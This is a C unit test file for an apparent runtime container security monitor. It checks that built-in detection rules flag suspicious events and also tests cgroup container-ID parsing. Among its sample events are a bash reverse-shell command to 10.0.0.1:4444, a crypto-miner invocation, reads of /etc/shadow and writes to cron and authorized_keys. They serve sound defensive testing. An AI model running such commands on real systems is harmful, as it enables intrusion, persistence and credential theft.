@@ -1,0 +1,358 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * rules_test.c - the runtime rule evaluator (src/defend/rules.c) on the
+ * built-in rules of rules/, the cgroup-path container attribution
+ * (src/sensor/container.c) on /proc/PID/cgroup files captured from real
+ * Docker containers on cgroup v1 + v2, and the sensor's record checks.
+ */
+#include <linux/types.h>
+#include <stdlib.h>
+
+#include "defend/rules.h"
+#include "events.h"
+#include "harness.h"
+#include "moat/error.h"
+#include "sensor/container.h"
+#include "sensor/sensor.h"
+
+static char src_path[4096];
+
+static const char *src(const char *rel)
+{
+	const char *root = getenv("MOAT_SRC");
+
+	snprintf(src_path, sizeof(src_path), "%s/%s", root ? root : ".", rel);
+	return src_path;
+}
+
+static struct moat_ruleset *builtin(void)
+{
+	struct moat_ruleset *rs = NULL;
+	struct moat_error err = { 0 };
+
+	CHECK_INT(moat_rules_open(&rs, &err), 0);
+	if (!rs)
+		return NULL;
+	CHECK_INT(moat_rules_load_dir(rs, src("rules"), &err), 0);
+	if (err.msg[0])
+		printf("# %s\n", err.msg);
+	return rs;
+}
+
+/* Rules matching a view, as "id,id,...". */
+static const char *matches(const struct moat_ruleset *rs, const struct moat_rule_view *v)
+{
+	static char out[1024];
+	size_t o = 0;
+
+	out[0] = 0;
+	for (size_t i = 0; i < moat_rules_count(rs); i++) {
+		const struct moat_rule *r = moat_rules_get(rs, i);
+
+		if (moat_rule_matches(r, v))
+			o += (size_t)snprintf(out + o, sizeof(out) - o, "%s%s", o ? "," : "", r->id);
+	}
+	return out;
+}
+
+static void exec_view(struct moat_rule_view *v, const char *name, const char *cmdline,
+		      bool container)
+{
+	memset(v, 0, sizeof(*v));
+	v->f[MOAT_F_EVT_KIND] = "exec";
+	v->f[MOAT_F_PROC_NAME] = name;
+	v->f[MOAT_F_PROC_CMDLINE] = cmdline;
+	v->f[MOAT_F_PROC_STDIN_SOCK] = "false";
+	v->f[MOAT_F_PROC_STDOUT_SOCK] = "false";
+	v->f[MOAT_F_PROC_DRIFT] = "false";
+	if (container)
+		v->f[MOAT_F_CONTAINER_ID] =
+			"c32903aa84117a44ccca2e119cbac829b5952736f15c3ee5b7ccd17698e2dae2";
+}
+
+static void test_rules__builtin_exec(void)
+{
+	struct moat_ruleset *rs = builtin();
+	struct moat_rule_view v;
+
+	if (!rs)
+		return;
+	CHECK(moat_rules_count(rs) >= 15);
+	exec_view(&v, "bash", "bash", true);
+	CHECK_STR(matches(rs, &v), "shell-in-container");
+	exec_view(&v, "bash", "bash", false);
+	CHECK_STR(matches(rs, &v), "");
+	exec_view(&v, "bash", "bash -i", true);
+	v.f[MOAT_F_PROC_STDIN_SOCK] = "true";
+	CHECK_STR(matches(rs, &v), "shell-in-container,reverse-shell");
+	exec_view(&v, "bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", false);
+	CHECK_STR(matches(rs, &v), "reverse-shell-cmdline");
+	exec_view(&v, "xmrig", "xmrig -o stratum+tcp://pool.example:3333 -u x", true);
+	CHECK_STR(matches(rs, &v), "crypto-miner-args");
+	exec_view(&v, "dropper", "/tmp/dropper", true);
+	v.f[MOAT_F_PROC_DRIFT] = "true";
+	CHECK_STR(matches(rs, &v), "container-drift");
+	CHECK(moat_rules_kill_drift(rs));
+	/* a benign web server */
+	exec_view(&v, "python3", "python3 -m http.server 8080", true);
+	CHECK_STR(matches(rs, &v), "");
+	moat_rules_close(rs);
+}
+
+static void file_view(struct moat_rule_view *v, const char *kind, const char *name,
+		      const char *path, bool write, bool container)
+{
+	exec_view(v, name, name, container);
+	v->f[MOAT_F_EVT_KIND] = kind;
+	v->f[MOAT_F_FD_NAME] = path;
+	v->f[MOAT_F_FD_WRITE] = write ? "true" : "false";
+}
+
+static void test_rules__builtin_files_net(void)
+{
+	struct moat_ruleset *rs = builtin();
+	struct moat_rule_view v;
+
+	if (!rs)
+		return;
+	file_view(&v, "open", "cat", "/etc/shadow", false, true);
+	CHECK_STR(matches(rs, &v), "read-shadow");
+	file_view(&v, "open", "sshd", "/etc/shadow", false, false);
+	CHECK_STR(matches(rs, &v), "");
+	file_view(&v, "open", "sh", "/etc/cron.d/x", true, true);
+	CHECK_STR(matches(rs, &v), "write-below-etc-cron");
+	file_view(&v, "open", "cat", "/etc/crontab", false, true);
+	CHECK_STR(matches(rs, &v), "");
+	file_view(&v, "rename", "mv", "/tmp/x", true, true);
+	v.f[MOAT_F_FD_NAME2] = "/etc/cron.daily/evil";
+	CHECK_STR(matches(rs, &v), "write-below-etc-cron");
+	file_view(&v, "open", "tee", "/etc/ld.so.preload", true, false);
+	CHECK_STR(matches(rs, &v), "write-sensitive-account-files");
+	file_view(&v, "open", "sh", "/home/alice/.ssh/authorized_keys", true, false);
+	CHECK_STR(matches(rs, &v), "write-sensitive-account-files");
+	file_view(&v, "open", "useradd", "/etc/passwd", true, false);
+	CHECK_STR(matches(rs, &v), "");
+	file_view(&v, "connect", "curl", "/var/run/docker.sock", false, true);
+	CHECK_STR(matches(rs, &v), "docker-socket-in-container");
+	file_view(&v, "connect", "curl", "/var/run/docker.sock", false, false);
+	CHECK_STR(matches(rs, &v), "");
+	exec_view(&v, "miner", "miner", true);
+	v.f[MOAT_F_EVT_KIND] = "connect";
+	v.f[MOAT_F_NET_FAMILY] = "inet";
+	v.f[MOAT_F_NET_DPORT] = "14444";
+	CHECK_STR(matches(rs, &v), "crypto-miner-pool-port");
+	v.f[MOAT_F_NET_DPORT] = "443";
+	CHECK_STR(matches(rs, &v), "");
+	exec_view(&v, "runc:[2:INIT]", "runc init", true);
+	v.f[MOAT_F_EVT_KIND] = "mount";
+	CHECK_STR(matches(rs, &v), "");
+	v.f[MOAT_F_PROC_NAME] = "mount";
+	CHECK_STR(matches(rs, &v), "mount-in-container");
+	moat_rules_close(rs);
+}
+
+static int load_str(struct moat_ruleset *rs, const char *text, struct moat_error *err)
+{
+	return moat_rules_load(rs, (const uint8_t *)text, strlen(text), "test.yaml", err);
+}
+
+static void test_rules__operators(void)
+{
+	struct moat_ruleset *rs = NULL;
+	struct moat_error err = { 0 };
+	struct moat_rule_view v;
+
+	CHECK_INT(moat_rules_open(&rs, &err), 0);
+	CHECK_INT(load_str(rs, "rules:\n"
+		" - {id: a, severity: info, when: {field: proc.exe, glob: '/usr/*/py*'}}\n"
+		" - {id: b, severity: info, when: {field: proc.exe, endswith: [.sh, /nc]}}\n"
+		" - {id: c, severity: info, when: {not: {field: container.id, exists: true}}}\n"
+		" - {id: d, severity: info, when: {or: [{field: user.uid, equals: 0},\n"
+		"                                    {field: proc.name, contains: adm}]}}\n"
+		" - {id: e, severity: info, action: kill, mitre: [T1], when: {and: [\n"
+		"     {field: proc.exe, startswith: /tmp/}, {field: fd.write, equals: true}]}}\n",
+		&err), 0);
+	if (err.msg[0])
+		printf("# %s\n", err.msg);
+	memset(&v, 0, sizeof(v));
+	v.f[MOAT_F_PROC_EXE] = "/usr/bin/python3";
+	v.f[MOAT_F_USER_UID] = "0";
+	CHECK_STR(matches(rs, &v), "a,c,d");
+	v.f[MOAT_F_PROC_EXE] = "/tmp/run.sh";
+	v.f[MOAT_F_USER_UID] = "1000";
+	v.f[MOAT_F_PROC_NAME] = "sysadmin";
+	v.f[MOAT_F_CONTAINER_ID] = "x";
+	v.f[MOAT_F_FD_WRITE] = "true";
+	CHECK_STR(matches(rs, &v), "b,d,e");
+	CHECK_INT(moat_rules_get(rs, 4)->action, MOAT_ACTION_KILL);
+	CHECK_STR(moat_rules_get(rs, 4)->mitre[0], "T1");
+	moat_rules_close(rs);
+}
+
+static void test_rules__errors(void)
+{
+	static const struct {
+		const char *text;
+		int code;
+		const char *msg;
+	} rows[] = {
+		{ "rules: [{id: a, severity: info, when: {field: no.such, equals: 1}}]",
+		  MOAT_E_FORMAT, "unknown field" },
+		{ "rules: [{id: a, severity: info, when: {field: proc.pid, matches: 1}}]",
+		  MOAT_E_FORMAT, "unknown test" },
+		{ "rules: [{id: a, severity: bad, when: {field: proc.pid, equals: 1}}]",
+		  MOAT_E_FORMAT, "severity" },
+		{ "rules: [{id: A B, severity: info, when: {field: proc.pid, equals: 1}}]",
+		  MOAT_E_FORMAT, "id" },
+		{ "rules: [{id: a, severity: info}]", MOAT_E_FORMAT, "no when" },
+		{ "rules: [{id: a, severity: info, action: nuke, when: {field: proc.pid, equals: 1}}]",
+		  MOAT_E_FORMAT, "action" },
+		{ "rules: [{id: a, severity: info, when: {field: proc.pid, equals: [1, 2]}}]",
+		  MOAT_E_FORMAT, "use in" },
+		{ "rules: [{id: a, severity: info, when: {field: proc.pid, equals: 1}},"
+		  " {id: a, severity: info, when: {field: proc.pid, equals: 1}}]",
+		  MOAT_E_USAGE, "duplicate" },
+		{ "rules: [{id: a, severity: info, when: {not: {not: {not: {not: {not: {not: {not:"
+		  " {not: {not: {not: {not: {not: {not: {not: {not: {not: {not: {not:"
+		  " {field: proc.pid, equals: 1}}}}}}}}}}}}}}}}}}}]",
+		  MOAT_E_LIMIT, "too deep" },
+		{ "{\"rules\": 5}", MOAT_E_FORMAT, "no rules" },
+	};
+
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		struct moat_ruleset *rs = NULL;
+		struct moat_error err = { 0 };
+
+		moat_rules_open(&rs, &err);
+		CHECK_INT(load_str(rs, rows[i].text, &err), rows[i].code);
+		if (!strstr(err.msg, rows[i].msg))
+			printf("# row %zu: got \"%s\"\n", i, err.msg);
+		CHECK(strstr(err.msg, rows[i].msg) != NULL);
+		CHECK_INT(moat_rules_count(rs), 0);
+		moat_rules_close(rs);
+	}
+}
+
+static void test_rules__prefixes(void)
+{
+	struct moat_ruleset *rs = builtin();
+	struct moat_ev_prefix p[MOAT_EV_PREFIX_MAX];
+	size_t n;
+	int cron = -1;
+	int shadow = -1;
+
+	if (!rs)
+		return;
+	n = moat_rules_prefixes(rs, p, MOAT_EV_PREFIX_MAX);
+	for (size_t i = 0; i < n; i++) {
+		CHECK_INT(strlen(p[i].p), p[i].len);
+		if (!strcmp(p[i].p, "/etc/cron"))
+			cron = (int)i;
+		if (!strcmp(p[i].p, "/etc/shadow"))
+			shadow = (int)i;
+	}
+	CHECK(cron >= 0 && shadow >= 0);
+	/* cron only matters when written, shadow on any open */
+	if (cron >= 0)
+		CHECK_INT(p[cron].mode, MOAT_PREFIX_WRITE);
+	if (shadow >= 0)
+		CHECK_INT(p[shadow].mode, MOAT_PREFIX_READ | MOAT_PREFIX_WRITE);
+	moat_rules_close(rs);
+}
+
+static size_t slurp(const char *rel, char *buf, size_t cap)
+{
+	FILE *f = fopen(src(rel), "r");
+	size_t n;
+
+	if (!f)
+		return 0;
+	n = fread(buf, 1, cap - 1, f);
+	fclose(f);
+	buf[n] = 0;
+	return n;
+}
+
+static void test_rules__cgroup_ids(void)
+{
+	static const struct {
+		const char *line;
+		const char *id;
+	} rows[] = {
+		{ "0::/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope\n",
+		  "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" },
+		{ "11:memory:/kubepods/burstable/pod1f2e/fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210\n",
+		  "fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210" },
+		{ "0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.scope",
+		  "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" },
+		{ "0::/user.slice/user-1000.slice/session-2.scope\n", NULL },
+		{ "0::/docker/0123456789ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef\n", NULL },
+		{ "garbage without colons", NULL },
+	};
+	char buf[8192];
+	char id[MOAT_CONTAINER_ID_LEN + 1];
+	char want[128];
+	size_t n;
+
+	n = slurp("tests/data/sensor/cgroup-docker-v1.txt", buf, sizeof(buf));
+	CHECK(n > 0);
+	CHECK(moat_container_id_from_cgroup(buf, n, id));
+	CHECK(slurp("tests/data/sensor/cgroup-docker-v1.id", want, sizeof(want)) > 64);
+	want[64] = 0;
+	CHECK_STR(id, want);
+	n = slurp("tests/data/sensor/cgroup-host.txt", buf, sizeof(buf));
+	CHECK(n > 0);
+	CHECK(!moat_container_id_from_cgroup(buf, n, id));
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		bool ok = moat_container_id_from_cgroup(rows[i].line, strlen(rows[i].line), id);
+
+		CHECK_INT(ok, rows[i].id != NULL);
+		if (ok && rows[i].id)
+			CHECK_STR(id, rows[i].id);
+	}
+}
+
+static void test_rules__times(void)
+{
+	uint64_t t = 0;
+
+	CHECK(moat_container_parse_time("2024-05-01T10:00:00.123456789Z", &t));
+	CHECK_INT(t, 1714557600);
+	CHECK(moat_container_parse_time("2024-05-01T12:00:00+02:00", &t));
+	CHECK_INT(t, 1714557600);
+	CHECK(!moat_container_parse_time("0001-01-01T00:00:00", &t));
+	CHECK(!moat_container_parse_time("yesterday", &t));
+}
+
+static void test_rules__record_checks(void)
+{
+	struct moat_ev_exec e;
+
+	memset(&e, 0, sizeof(e));
+	e.hdr.kind = MOAT_EV_EXEC;
+	e.hdr.abi = MOAT_EVENT_ABI;
+	e.hdr.size = sizeof(e);
+	CHECK_INT(moat_sensor_check(&e, sizeof(e)), 0);
+	CHECK_INT(moat_sensor_check(&e, sizeof(e) - 1), MOAT_E_FORMAT);
+	e.hdr.abi = MOAT_EVENT_ABI + 1;
+	CHECK_INT(moat_sensor_check(&e, sizeof(e)), MOAT_E_FORMAT);
+	e.hdr.abi = MOAT_EVENT_ABI;
+	e.hdr.kind = MOAT_EV_OPEN;            /* an exec-sized record claiming to be an open */
+	CHECK_INT(moat_sensor_check(&e, sizeof(e)), MOAT_E_FORMAT);
+	CHECK_INT(moat_sensor_check(&e, 4), MOAT_E_FORMAT);
+	CHECK_STR(moat_sensor_kind_name(MOAT_EV_CONNECT), "connect");
+	CHECK_STR(moat_sensor_kind_name(999), "unknown");
+}
+
+int main(void)
+{
+	MOAT_RUN(test_rules__builtin_exec);
+	MOAT_RUN(test_rules__builtin_files_net);
+	MOAT_RUN(test_rules__operators);
+	MOAT_RUN(test_rules__errors);
+	MOAT_RUN(test_rules__prefixes);
+	MOAT_RUN(test_rules__cgroup_ids);
+	MOAT_RUN(test_rules__times);
+	MOAT_RUN(test_rules__record_checks);
+	return moat_test_done();
+}
